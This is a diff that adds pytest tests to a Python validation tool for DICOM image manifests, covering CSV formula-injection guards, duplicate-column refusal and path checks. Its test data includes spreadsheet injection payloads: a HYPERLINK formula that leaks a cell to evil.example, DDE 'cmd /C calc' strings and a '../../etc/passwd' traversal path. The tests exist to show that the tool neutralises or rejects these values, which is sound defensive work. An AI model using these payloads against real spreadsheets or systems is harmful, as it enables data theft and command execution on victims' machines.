@@ -4,17 +4,26 @@ never be valid (``manifest build`` and ``manifest check`` must agree)."""
 
 from __future__ import annotations
 
+import csv
 import os
 import shutil
+import subprocess
+import sys
 import threading
+import warnings
 from pathlib import Path
 
+import pandas as pd
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pydicom
 import pytest
 
-from validation.data.manifest import build_manifest
+from validation.data.manifest import build_manifest, load_manifest
 from validation.data.synthetic import generate_synthetic_dataset
-from validation.errors import InputError, ManifestError
+from validation.errors import InputError, ManifestError, ReadingsError
 from validation.io import path_escape_reason, resolve_inside
+from validation.tables import neutralise, restore, restore_frame, write_csv
 
 
 @pytest.fixture(scope="module")
@@ -126,3 +135,174 @@ def test_build_never_opens_a_fifo(dicoms: Path, tmp_path: Path) -> None:
         pytest.fail("manifest build blocked on a FIFO")
     assert ("pipe.dcm", "not a regular file (a FIFO, socket or device)") in seen
     assert len(result) == 1
+
+
+# ------------------------------------------------------------------ CSV formula injection
+
+
+def _radval(*args: str | Path, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
+    env = {k: v for k, v in os.environ.items() if k != "RADVAL_PSEUDONYM_SALT"}
+    return subprocess.run([sys.executable, "-m", "validation", *map(str, args)],
+                          capture_output=True, text=True, timeout=180, env=env, cwd=cwd)
+
+
+HOSTILE = {
+    "InstitutionName": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "Manufacturer": "+cmd|' /C calc'!A0",
+    "ManufacturerModelName": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "BodyPartExamined": "-2+3",
+}
+
+
+def _hostile_folder(dicoms: Path, tmp_path: Path) -> Path:
+    folder = _images(dicoms, tmp_path)
+    for file in sorted(folder.glob("*.dcm"))[:2]:
+        ds = pydicom.dcmread(file)
+        with warnings.catch_warnings():  # pydicom warns that '-2+3' is not a valid CS value
+            warnings.simplefilter("ignore", UserWarning)
+            for keyword, value in HOSTILE.items():
+                setattr(ds, keyword, value)
+        ds.PatientAge = "999Y"
+        ds.save_as(file)
+    return folder
+
+
+def test_build_neutralises_formulas_and_check_reads_them_back(dicoms: Path,
+                                                             tmp_path: Path) -> None:
+    folder = _hostile_folder(dicoms, tmp_path)
+    out = folder / "manifest.csv"
+    result = _radval("manifest", "build", folder, "--out", out, "--salt", "s")
+    assert result.returncode == 0, result.stderr
+    lines = result.stderr.splitlines()
+    first, second = sorted(folder.glob("*.dcm"))[:2]
+    assert lines == [
+        f"radval: warning: {first.name}: kept, but its Patient Age (999 years) is not a "
+        "possible age (0 to 150): age left blank",
+        f"radval: warning: {second.name}: kept, but its Patient Age (999 years) is not a "
+        "possible age (0 to 150): age left blank",
+        f"radval: warning: {out}: 8 text cell(s) started with =, +, -, @, tab or CR and were "
+        "written with a leading ' so that a spreadsheet shows them as text (CSV-injection "
+        "guard; radval reads them back unchanged): 'site' (2), 'manufacturer' (2), "
+        "'manufacturer_model' (2), 'body_part' (2)",
+    ]
+    rows = list(csv.DictReader(out.open(newline="")))
+    for row in rows[:2]:  # as a spreadsheet would see the cells: text, never a formula
+        assert row["site"] == "'" + HOSTILE["InstitutionName"]
+        assert row["manufacturer"] == "'" + HOSTILE["Manufacturer"]
+        assert row["body_part"] == "'-2+3"
+        assert row["age"] == ""  # the impossible age is not written
+    for row in rows:
+        assert not row["site"].startswith(("=", "+", "-", "@"))
+    check = _radval("manifest", "check", out, "--verify-hashes")
+    assert check.returncode == 0, check.stderr
+    loaded = load_manifest(out, label_columns=(), require_labels=False)
+    assert list(loaded.frame["site"][:2]) == [HOSTILE["InstitutionName"]] * 2
+    assert list(loaded.frame["manufacturer_model"][:2]) == [HOSTILE["ManufacturerModelName"]] * 2
+    assert loaded.frame["age"][:2].isna().all() and loaded.frame["age"][2:].notna().all()
+
+
+def test_numbers_are_never_neutralised_and_reading_back_is_exact(tmp_path: Path) -> None:
+    values = ["=1+1", "'=1+1", "''@x", "-12", "+3.5", "-1e-3", "-", "'abc", "\tx", "\rx",
+              "plain", "a=b", "a\rb", "c\r\nd", "q\"r", "x,y"]
+    frame = pd.DataFrame({"case_id": [f"c{i}" for i in range(len(values))],
+                          "note": values, "delta": [-1.5] * len(values),
+                          "=col": ["x"] * len(values)})
+    out = tmp_path / "t.csv"
+    report = write_csv(frame, out)
+    assert report.neutralised == {"<header>": 1, "note": 6}
+    raw = list(csv.reader(out.open(newline="")))
+    assert raw[0] == ["case_id", "note", "delta", "'=col"]
+    assert [r[1] for r in raw[1:]] == [
+        "'=1+1", "''=1+1", "'''@x", "-12", "+3.5", "-1e-3", "'-", "'abc", "'\tx", "'\rx",
+        "plain", "a=b", "a\rb", "c\r\nd", "q\"r", "x,y"]
+    assert [r[2] for r in raw[1:]] == ["-1.5"] * len(values)
+    back = restore_frame(pd.read_csv(out, dtype=str, keep_default_na=False))
+    assert list(back.columns) == ["case_id", "note", "delta", "=col"]
+    assert list(back["note"]) == values
+    assert [neutralise(v) for v in values] == [r[1] for r in raw[1:]]
+    assert [restore(neutralise(v)) for v in values] == values
+
+
+def test_inference_failures_csv_is_neutralised_and_read_back(tmp_path: Path) -> None:
+    from validation._study_inputs import inference_failures
+    from validation.tables import write_csv_rows
+
+    side = tmp_path / "s.failures.csv"
+    write_csv_rows(("case_id", "row", "error"), [("=cmd", 2, "@boom"), ("c2", 3, "ok")], side)
+    assert side.read_text().splitlines()[1] == "'=cmd,2,'@boom"
+    assert inference_failures(tmp_path / "s.parquet", {}) == {"=cmd": "@boom", "c2": "ok"}
+
+
+# ------------------------------------------------------------------ duplicate header columns
+
+
+def test_duplicate_columns_are_refused_in_every_table(tmp_path: Path) -> None:
+    from validation._study_inputs import read_scores
+    from validation.data.readings import load_froc_readings, load_readings
+
+    (tmp_path / "img").mkdir()
+    manifest = tmp_path / "m.csv"
+    manifest.write_text("case_id,patient_id,path,label,label\nc1,p1,img/a.dcm,1,0\n")
+    with pytest.raises(ManifestError) as info:
+        load_manifest(manifest)
+    assert str(info.value) == f"{manifest}: column 'label' appears more than once in the header"
+    spaced = tmp_path / "m2.csv"
+    spaced.write_text("case_id,patient_id,path, path\nc1,p1,a,b\n")
+    with pytest.raises(ManifestError, match="column 'path' appears more than once"):
+        load_manifest(spaced, label_columns=())
+
+    scores = tmp_path / "s.csv"
+    scores.write_text("case_id,score,score\nc1,0.2,0.9\n")
+    with pytest.raises(InputError) as info:
+        read_scores(scores)
+    assert str(info.value) == f"{scores}: column 'score' appears more than once in the header"
+    table = pa.table([pa.array(["c1"]), pa.array([0.1]), pa.array([0.2])],
+                     names=["case_id", "score", "score"])
+    pq.write_table(table, tmp_path / "s.parquet")
+    with pytest.raises(InputError) as info:
+        read_scores(tmp_path / "s.parquet")
+    assert str(info.value) == (
+        f"{tmp_path / 's.parquet'}: column 'score' appears more than once in the header")
+
+    readings = tmp_path / "r.csv"
+    readings.write_text("reader,modality,case,truth,score,score\nR1,A,c1,1,0.5,0.7\n")
+    with pytest.raises(ReadingsError) as info:
+        load_readings(readings)
+    assert str(info.value) == f"{readings}: column 'score' appears more than once in the header"
+
+    marks = tmp_path / "f.csv"
+    marks.write_text("reader,modality,case,truth,score,lesion\nR1,A,c1,1,0.5,1\n")
+    (tmp_path / "f_truth.csv").write_text("case,truth,lesion,lesion,weight\nc1,1,1,1,1\n")
+    with pytest.raises(ReadingsError) as info:
+        load_froc_readings(marks)
+    assert str(info.value) == (
+        f"{tmp_path / 'f_truth.csv'}: column 'lesion' appears more than once in the header")
+
+
+# ------------------------------------------------------------------ build and check agree
+
+
+def test_build_refuses_labels_that_check_would_reject(dicoms: Path, tmp_path: Path) -> None:
+    folder = _images(dicoms, tmp_path)
+    first = sorted(folder.glob("*.dcm"))[0].stem
+    labels = tmp_path / "labels.csv"
+    labels.write_text(f"case_id,label\n{first},yes\n")
+    with pytest.raises(ManifestError) as info:
+        build_manifest(folder, labels_path=labels, salt="s")
+    assert str(info.value) == (
+        f"manifest built from {folder}: row 2 (case_id '{first}'), column 'label': expected 0 "
+        f"or 1, found 'yes'; the values come from {labels}; nothing written")
+    labels.write_text(f"case_id,mask_path\n{first},../../etc/passwd\n")
+    with pytest.raises(ManifestError, match=r"column 'mask_path': expected a path inside the "
+                                            r"manifest's folder, found '\.\./\.\./etc/passwd' "
+                                            r"\(it uses '\.\.'\)"):
+        build_manifest(folder, labels_path=labels, salt="s")
+
+
+def test_labels_file_duplicate_columns_are_refused(dicoms: Path, tmp_path: Path) -> None:
+    folder = _images(dicoms, tmp_path)
+    labels = tmp_path / "labels.csv"
+    labels.write_text("case_id,label,label\nT00001,1,0\n")
+    with pytest.raises(ManifestError) as info:
+        build_manifest(folder, labels_path=labels, salt="s")
+    assert str(info.value) == f"{labels}: column 'label' appears more than once in the header"
